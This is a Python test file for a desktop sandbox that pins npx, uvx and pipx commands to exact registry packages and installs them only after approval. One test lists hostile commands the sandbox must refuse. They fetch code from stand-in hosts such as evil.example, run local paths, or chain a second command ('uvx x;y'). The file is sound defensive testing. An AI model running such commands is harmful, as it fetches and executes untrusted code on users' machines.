"""npx, uvx and pipx run."""

from pathlib import Path

import pytest

from ztmcp_desktop.domain.denial import Code, Denial
from ztmcp_desktop.domain.names import ServerName
from ztmcp_desktop.domain.server import LocalCommand, Server
from ztmcp_desktop.sandbox.packages import Packages, Registry, installer_reason, wanted_package
from ztmcp_desktop.sandbox.runtime import Runtimes


@pytest.mark.attack("P1")
@pytest.mark.parametrize(
    "command",
    [
        "npx",
        "npx -y",
        "npx -c evil",
        "npx --call=evil",
        "npx https://evil.example/x.tgz",
        "npx git+ssh://evil.example/x",
        "npx file:/tmp/x",
        "npx ./x",
        "npx ../x",
        "npx --registry=http://evil.example x",
        "uvx --index-url http://evil.example x",
        "uvx --from git+https://evil.example/x x",
        "uvx --from ./x x",
        "uvx x;y",
        "pipx run --index-url http://evil.example x",
        "pipx run https://evil.example/x.py",
    ],
)
def test_what_cannot_be_pinned_to_a_registry_is_refused(command: str) -> None:
    with pytest.raises(Denial) as refused:
        wanted_package(tuple(command.split()))
    assert refused.value.code is Code.SERVER_UNAVAILABLE


@pytest.mark.parametrize(
    ("command", "registry", "spec", "program", "rest"),
    [
        ("npx -y @scope/name@1.2.3 /data", Registry.NPM, "@scope/name@1.2.3", "name", ("/data",)),
        ("npx name@latest", Registry.NPM, "name", "name", ()),
        ("npx -p @scope/name program -x", Registry.NPM, "@scope/name", "program", ("-x",)),
        ("uvx mcp-server-time", Registry.PYPI, "mcp-server-time", "mcp-server-time", ()),
        ("uvx --from tool[cli]==2.0 run-it --y", Registry.PYPI, "tool[cli]==2.0", "run-it", ("--y",)),
        ("/usr/bin/pipx run tool@1.0", Registry.PYPI, "tool==1.0", "tool", ()),
    ],
)
def test_the_package_its_program_and_its_arguments_are_told_apart(
    command: str, registry: Registry, spec: str, program: str, rest: tuple[str, ...]
) -> None:
    wanted = wanted_package(tuple(command.split()))
    assert wanted is not None
    assert (wanted.registry, wanted.spec, wanted.program, wanted.arguments) == (registry, spec, program, rest)


@pytest.mark.parametrize("command", ["node x.js", "pipx list", "/usr/bin/python3 -m npx"])
def test_other_commands_fetch_nothing(command: str) -> None:
    assert wanted_package(tuple(command.split())) is None


def server(*argv: str) -> Server:
    return Server(name=ServerName("files"), endpoint=LocalCommand(argv=argv))


async def test_before_approval_nothing_is_fetched(tmp_path: Path) -> None:
    runtime = await Runtimes(tmp_path / "packages", (), tmp_path / "home").resolve(server("npx", "some-name"), False)
    assert runtime.installed == ("some-name (to be installed at approval)",)
    assert not (tmp_path / "packages").exists()


async def test_a_package_that_does_not_exist_says_so_and_leaves_nothing(tmp_path: Path) -> None:
    packages = tmp_path / "packages"
    with pytest.raises(Denial) as refused:
        await Runtimes(packages, (), tmp_path / "home").resolve(server("uvx", "mcp-server-time==0.0.0.dev0"), True)
    assert refused.value.code is Code.SERVER_UNAVAILABLE
    assert list(packages.iterdir()) == []


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        ("", "it gave no reason"),
        ("something else\n", "something else"),
        (
            "npm error code E404\nnpm error 404 Not Found - GET https://registry.example/nope\nnpm error 404\n",
            "404 Not Found - GET https://registry.example/nope",
        ),
        (
            "ERROR: Could not find a version that satisfies nope (from versions: none)\nERROR: No matching one\n",
            "Could not find a version that satisfies nope (from versions: none)",
        ),
    ],
)
def test_the_installers_own_reason_is_given(said: str, reason: str) -> None:
    assert installer_reason(said) == reason


@pytest.mark.attack("P1")
@pytest.mark.parametrize(
    ("argv", "label", "last"),
    [
        (("npx", "-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "/data"), "@2026.8.31", "index.js"),
        (("uvx", "mcp-server-time@2026.10.19"), "==2026.10.19", "mcp-server-time"),
    ],
)
async def test_at_approval_the_exact_version_is_installed_and_the_command_rewritten_to_it(
    tmp_path: Path, argv: tuple[str, ...], label: str, last: str
) -> None:
    packages = tmp_path / "packages"
    runtimes = Runtimes(packages, (tmp_path,), tmp_path / "home")
    runtime = await runtimes.resolve(server(*argv), True)
    assert [name.endswith(label) for name in runtime.installed] == [True]
    program = next(Path(part) for part in runtime.argv if packages in Path(part).parents)
    assert program.name == last
    assert any(mount == program or mount in program.parents for mount in runtime.mounts)
    again = await runtimes.resolve(server(*argv), False)
    assert again == runtime
    assert len(list(Packages(packages).folder.iterdir())) == 1
